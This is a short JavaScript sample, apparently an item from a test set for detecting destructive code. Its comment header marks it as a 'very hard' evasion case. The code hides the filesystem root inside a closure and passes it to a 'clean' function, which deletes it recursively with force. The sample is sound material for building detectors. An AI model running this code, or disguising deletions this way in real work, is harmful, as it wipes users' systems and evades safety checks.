// evasion: a closure over path.parse(process.cwd()).root (the root directory) handed to a cleaner and removed
// grade: very hard; does: delete
const fs = require("fs");
const path = require("path");
const bind = (p) => () => p;
const getRoot = bind(path.parse(process.cwd()).root);
function clean(where) {
  fs.rmSync(where(), { recursive: true, force: true });
}
clean(getRoot);
